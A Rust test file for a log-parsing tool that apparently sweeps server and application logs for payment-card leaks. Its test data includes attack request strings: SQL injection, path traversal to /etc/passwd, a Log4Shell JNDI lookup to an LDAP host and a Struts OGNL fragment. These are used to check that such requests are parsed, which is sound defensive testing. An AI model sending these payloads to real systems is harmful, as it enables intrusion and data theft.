//! Proofs that the application-side formats say what their entries say: whole logs in, events out.

use std::path::PathBuf;

use super::*;
use crate::line::Block;

/// The format of a log and its entries, each told as `time name=value …`.
pub(super) fn tell(log: &[u8]) -> (Guess, Vec<String>) {
    let options = Options {
        zone: "+09:00".parse().unwrap(),
        closed: "2017-12-30T00:00:00Z".parse().ok(),
        ..Options::default()
    };
    tell_with(log, &options)
}

pub(super) fn tell_with(log: &[u8], options: &Options) -> (Guess, Vec<String>) {
    let guess = recognise(log, options);
    let block = Block::new(log.to_vec(), 0, 1, guess.format.framing());
    let mut parser = guess.format.parser();
    let mut told = Vec::new();
    for entry in block.entries() {
        let mut event = Event::default();
        event.reset(entry.bytes);
        match parser.parse(entry.bytes, &mut event) {
            Parsed::Event => told.push(line(&event)),
            Parsed::Skip => {}
            Parsed::Unparsed => told.push("UNPARSED".into()),
        }
    }
    drop(parser);
    (guess, told)
}

fn line(event: &Event<'_>) -> String {
    let show = |bytes: &[u8]| String::from_utf8_lossy(bytes).escape_debug().to_string();
    let time = event.time.map_or("-".into(), |time| time.to_string());
    let known = Field::ALL.iter().filter_map(|f| Some((f.name().to_owned(), show(event.get(*f)?))));
    let named = event.named().iter().map(|(name, value)| (show(name), show(value)));
    known.chain(named).fold(time, |line, (name, value)| format!("{line} ‹{name}={value}›"))
}

/// A file of the shared data, if it is there.
pub(super) fn data(name: &str) -> Option<Vec<u8>> {
    let root = std::env::var_os("LEAKSWEEP_DATA").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/data"),
        PathBuf::from,
    );
    std::fs::read(root.join(name)).ok()
}

/// A log, the name of its format, the kind of log, and for each entry what it must say.
type Case<'c> = (&'c str, &'c str, &'c str, &'c [&'c [&'c str]]);

pub(super) fn prove(cases: &[Case<'_>]) {
    for (log, name, kind, entries) in cases {
        let (guess, told) = tell(log.as_bytes());
        assert_eq!((guess.format.name(), guess.format.kind().log), (*name, *kind), "{log}");
        assert_eq!(told.len(), entries.len(), "{log}\n{told:#?}");
        for (told, expected) in told.iter().zip(*entries) {
            for part in *expected {
                assert!(told.contains(part), "{part} is not in {told}");
            }
        }
    }
}

#[test]
fn json() {
    prove(&[
        (
            r#"{"ts":"2017-03-08T05:20:11.031+09:00","level":"INFO","site":"zei.example.jp","op":"SearchCard","src_ip":"203.0.113.66","order_id":"T20170308-000123","card_no":"4000","expire":"2003"}
{"ts":1488917527412,"site":"zei.example.jp","op":"ExecTran","src_ip":"198.51.100.23","card":{"number":"4111**"},"items":[{"no":1},{"no":2}],"order_id":2}
"#,
            "json-gateway",
            "gateway",
            &[
                &[
                    "2017-03-08T05:20:11.031+09:00 ",
                    "‹c-ip=203.0.113.66›",
                    "‹cs-host=zei.example.jp›",
                    "‹operation=SearchCard›",
                    "‹card_no=4000›",
                    "‹expire=2003›",
                    "‹level=INFO›",
                    "‹order_id=T20170308-000123›",
                ],
                &["2017-03-07T20:12:07.412Z", "‹card.number=4111**›", "‹items.1.no=2›"],
            ],
        ),
        (
            r#"{"ClientIP":"192.0.2.1","ClientRequestHost":"www.example.com","ClientRequestMethod":"POST","ClientRequestURI":"/a?b=1","EdgeResponseBytes":512,"EdgeResponseStatus":200,"EdgeStartTimestamp":1712790002350000000,"RayID":"87a1"}"#,
            "cloudflare-json",
            "access",
            &[&[
                "2024-04-10T23:00:02.35Z",
                "‹c-ip=192.0.2.1›",
                "‹cs-method=POST›",
                "‹cs-uri-stem=/a›",
                "‹cs-uri-query=b=1›",
                "‹sc-status=200›",
                "‹sc-bytes=512›",
                "‹cs-host=www.example.com›",
                "‹request-id=87a1›",
            ]],
        ),
        (
            r#"{"timestamp":1533689070589,"action":"BLOCK","webaclId":"w","httpRequest":{"clientIp":"192.0.2.1","headers":[{"name":"Host","value":"shop.example.com"},{"name":"User-Agent","value":"curl"}],"uri":"/foo","args":"x=1","httpMethod":"GET"}}"#,
            "aws-waf-json",
            "waf",
            &[&[
                "2018-08-08T00:44:30.589Z",
                "‹cs-uri=/foo?x=1›",
                "‹cs-host=shop.example.com›",
                "‹cs-user-agent=curl›",
                "‹action=blocked›",
            ]],
        ),
        (
            r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://shop.example.com/x?y=1","status":200,"remoteIp":"192.0.2.7"},"timestamp":"2024-05-05T10:00:00Z"}"#,
            "json-access",
            "access",
            &[&["‹cs-uri-stem=/x›", "‹cs-host=shop.example.com›", "‹c-ip=192.0.2.7›"]],
        ),
        (
            r#"{"@timestamp":"2024-05-05T10:00:00.123Z","level":"WARN","logger_name":"c.e.pay","message":"Unable to parse","stack_trace":"a.b.Ex: %{(#nike\n\tat y","status":"OK","mdc":{"ip":"192.0.2.7"}}"#,
            "json",
            "application",
            &[&[
                "‹message=Unable to parse\\na.b.Ex: %{(#nike\\n\\tat y›",
                "‹c-ip=192.0.2.7›",
                "‹status=OK›",
            ]],
        ),
        (
            "{\"log\":\"2017-03-08 05:12:07,412 WARN  [x] a.b.C - \\\"q\\\"\\n\",\"stream\":\"stdout\",\"time\":\"2017-03-07T20:12:07.5Z\"}\n",
            "log4j",
            "application",
            &[&["2017-03-08T05:12:07.412+09:00", "‹message=\\\"q\\\"›", "‹logger=a.b.C›"]],
        ),
        ("[\n{\"a\":1},\n{\"a\":2}\n]\n", "json", "application", &[&["‹a=1›"], &["‹a=2›"]]),
    ]);
}

#[test]
fn key_value() {
    prove(&[
        (
            r#"ts=2017-03-08T05:20:11.031+09:00 level=INFO site=a.jhf.example.jp op=SearchCard src_ip=203.0.113.99 cardNo=4000 expire=2003 name="YAMADA TARO" address=Tokyo, Chiyoda 1-2 tel=03
2017-03-08T05:20:12+09:00 INFO site=a.jhf.example.jp op=SearchCard src_ip=203.0.113.99 cardNo=4000
"#,
            "key-value",
            "gateway",
            &[
                &[
                    "2017-03-08T05:20:11.031+09:00",
                    "‹c-ip=203.0.113.99›",
                    "‹cs-host=a.jhf.example.jp›",
                    "‹operation=SearchCard›",
                    "‹cardNo=4000›",
                    "‹name=YAMADA TARO›",
                    "‹address=Tokyo, Chiyoda 1-2›",
                    "‹tel=03›",
                ],
                &["2017-03-08T05:20:12+09:00", "‹level=INFO›", "‹cardNo=4000›"],
            ],
        ),
        (
            "time:08/Mar/2017:05:12:07 +0900\thost:203.0.113.66\tvhost:zei.example.jp\treq:GET /a?x=1 HTTP/1.1\tstatus:200\tsize:7\tua:Mozilla/5.0\n",
            "ltsv",
            "access",
            &[&[
                "2017-03-08T05:12:07+09:00",
                "‹c-ip=203.0.113.66›",
                "‹cs-host=zei.example.jp›",
                "‹cs-uri=/a?x=1›",
                "‹sc-status=200›",
            ]],
        ),
    ]);
}

#[test]
fn application_logs() {
    let exception =
        "a.b.FileUploadBase$InvalidContentTypeException: content type header is %{(#nike='x')}";
    let struts = format!(
        "2017-03-08 05:12:07,412 WARN  [http-nio-8080-exec-7] o.a.s.JakartaMultiPartRequest - Unable to parse request\n{exception}\n\tat a.b.C(D.java:9)\n2017-03-08 05:12:08,000 INFO  [x] j.e.Login - login ok user=tanaka clientIp=198.51.100.7, requestId=abc-1\n2017-03-08 05:12:09,000 INFO  [x] j.e.Gw - op=SearchCard cardNo=4000\n"
    );
    prove(&[
        (
            &struts,
            "log4j",
            "application",
            &[
                &[
                    "2017-03-08T05:12:07.412+09:00",
                    "‹message=Unable to parse request\\na.b.FileUploadBase$InvalidContentTypeException: content type header is %{(#nike=",
                    "\\n\\tat a.b.C(D.java:9)›",
                    "‹level=WARN›",
                    "‹thread=http-nio-8080-exec-7›",
                    "‹logger=o.a.s.JakartaMultiPartRequest›",
                ],
                &["‹c-ip=198.51.100.7›", "‹cs-username=tanaka›", "‹request-id=abc-1›"],
                &["‹operation=SearchCard›", "‹cardNo=4000›"],
            ],
        ),
        (
            "2017-03-08 05:12:07.412  WARN 1234 --- [nio-8080-exec-7] o.a.s.Jakarta        : Unable\n",
            "log4j",
            "application",
            &[&["‹message=Unable›", "‹level=WARN›", "‹logger=o.a.s.Jakarta›"]],
        ),
        (
            "08-Mar-2017 05:12:07.412 WARNING [exec-7] org.apache.struts2.Jakarta.parse Unable\n",
            "log4j",
            "application",
            &[&["‹message=Unable›", "‹logger=org.apache.struts2.Jakarta.parse›"]],
        ),
        (
            "Mar 08, 2017 5:12:07 AM org.apache.catalina.core.Valve invoke\nSEVERE: boom\nMar 08, 2017 5:12:08 AM org.apache.catalina.core.Valve invoke\nINFO: x\n",
            "log4j",
            "application",
            &[
                &["‹message=boom›", "‹level=SEVERE›"],
                &["2017-03-08T05:12:08+09:00", "‹level=INFO›"],
            ],
        ),
        (
            "2017-03-08 05:12:07,412 - app.gateway - WARNING - charge failed ip=192.0.2.4\n",
            "log4j",
            "application",
            &[&["‹c-ip=192.0.2.4›", "‹logger=app.gateway›", "‹message=charge failed"]],
        ),
        (
            "[2017-03-08 05:12:07] app.ERROR: boom {\"user\":1} []\n",
            "log4j",
            "application",
            &[&["‹message=boom {", "‹level=ERROR›", "‹logger=app›"]],
        ),
        (
            "W, [2017-03-08T05:12:07.412345 #1234]  WARN -- : boom\n",
            "log4j",
            "application",
            &[&["2017-03-08T05:12:07.412345+09:00", "‹message=boom›", "‹level=WARN›"]],
        ),
        (
            "[2017-03-08 05:12:07,412] [ERROR] [exec-1] jp.example.Gw - boom\nERROR 2017-03-08 05:12:07,412 [exec-1] jp.example.Gw - boom\n",
            "log4j",
            "application",
            &[&["‹message=boom›", "‹thread=exec-1›"], &["‹message=boom›", "‹thread=exec-1›"]],
        ),
    ]);
}
/// What of the ten hostile requests must come out of a server's log, in order.
pub(super) fn hostile(name: &str, expected: &[&str]) {
    let Some(log) = data(&format!("servers/{name}.log")) else { return };
    let (_, told) = tell(&log);
    for part in expected {
        assert!(told.iter().any(|told| told.contains(part)), "{name}: {part}\n{told:#?}");
    }
    assert!(!told.iter().any(|told| told == "UNPARSED"), "{name}\n{told:#?}");
}

#[test]
fn hostile_requests_come_out_of_json() {
    let common = [
        "‹cs-uri-query=q=%27%20UNION%20SELECT%20card_no--›",
        "‹cs-uri-query=x=\\\"quoted\\\"&y=a\\\\b›",
        "‹cs-user-agent=ua \\\"with quotes\\\" and \\\\back›",
        "‹cs-uri-stem=/café›",
        "‹cs-uri-query=cc=4111111111111111&email=jane%40example.com›",
        "‹cs-uri-stem=/%2e%2e%2f%252e%252e%252fetc/passwd›",
        "‹cs-uri-query=x=${jndi:ldap://10.0.0.1/a}›",
        "‹cs-method=PROPFIND›",
        "‹cs-uri=http://shop.example.com/abs?x=1› ‹cs-uri-stem=/abs›",
    ];
    for name in ["apache_json", "nginx_json_escape_json", "caddy_json", "modsec_audit_serial_json"]
    {
        hostile(name, &common);
    }
    hostile("apache_json", &["‹cs-uri=\\u{16}\\u{3}\\u{1}\\u{2}›"]);
    hostile("modsec_audit_serial_json", &["‹cs-body=cc=5555", "‹action=detected›"]);
}

#[test]
fn a_mapping_names_fields_that_no_one_knows() {
    let mut options = Options::default();
    for (field, path) in
        [("time", "w.when"), ("client_ip", "who"), ("operation", "x.0"), ("host", "shop_name")]
    {
        options.mapping.add(field, path).unwrap();
    }
    assert!(options.mapping.add("card", "x").is_err());
    let log = br#"{"w":{"when":1488917527},"who":"tanaka","x":["SearchCard",2],"shop_name":"z"}"#;
    let (_, told) = tell_with(log, &options);
    assert_eq!(
        told,
        ["2017-03-07T20:12:07Z ‹c-ip=tanaka› ‹cs-host=z› ‹operation=SearchCard› ‹x.1=2›"]
    );
}

/// Logs of every family of this room's application side.
const LOGS: &[&str] = &[
    r#"{"ts":"2017-03-08T05:20:11+09:00","request":"GET /a?b HTTP/1.1","c":{"d":["\u00e9\xff"]}}"#,
    "{\"log\":\"192.0.2.7 - - [08/Mar/2017:05:12:07 +0900] \\\"GET / HTTP/1.1\\\" 200 3\\n\"}",
    r#"ts=2017-03-08T05:20:11+09:00 level=INFO op=SearchCard cardNo=4000 name="YAMADA \"T\"""#,
    "time:08/Mar/2017:05:12:07 +0900\thost:203.0.113.66\treq:GET /a?x=1 HTTP/1.1\tstatus:200",
    "2017-03-08 05:12:07,412 WARN  [exec-7] o.a.s.J - Unable clientIp=1.2.3.4\n\tat a.b.C(D)",
    "Mar 08, 2017 5:12:07 AM org.apache.catalina.core.Valve invoke\nSEVERE: boom",
    "2012/04/09 11:53:29 [error] 1#0: *6 open() \"/a\" failed (2: N), client: 1.2.3.4, server: x, request: \"GET / HTTP/1.1\", host: \"h\"",
    "[Mon Nov 23 08:46:29.054642 2026] [a:error] [pid 8] [client 192.0.2.7:5] ModSecurity: Warning. [id \"1\"] [uri \"/a\"]",
    "--c9436741-A--\n[08/Mar/2017:05:12:07.168338 +0900] ID1 203.0.113.66 50628 192.0.2.1 443\n--c9436741-B--\nPOST /a HTTP/1.1\nHost: z\n\n--c9436741-H--\nMessage: x\n--c9436741-Z--",
    "<190>1 2017-03-08T05:12:08Z web1 nginx 1 - [a b=\"c\"] 192.0.2.7 - - [08/Mar/2017:05:12:07 +0900] \"GET / HTTP/1.1\" 200 3",
    "time,op,card_no\n2017-03-08T05:12:07Z,\"Search\"\"Card\",4000",
];

proptest::proptest! {
    #[test]
    fn mutated_entries_never_panic(
        log in 0..LOGS.len(),
        edits in proptest::collection::vec((0usize..300, proptest::num::u8::ANY), 1..6),
        cut in 0usize..400,
    ) {
        let guess = recognise(LOGS[log].as_bytes(), &Options::default());
        proptest::prop_assert_ne!(guess.format.name(), "text");
        let mut bytes = LOGS[log].as_bytes().to_vec();
        for (at, byte) in edits {
            if let Some(place) = bytes.get_mut(at) {
                *place = byte;
            }
        }
        bytes.truncate(cut);
        let mut event = Event::default();
        event.reset(&bytes);
        guess.format.parser().parse(&bytes, &mut event);
        recognise(&bytes, &Options::default());
    }
}
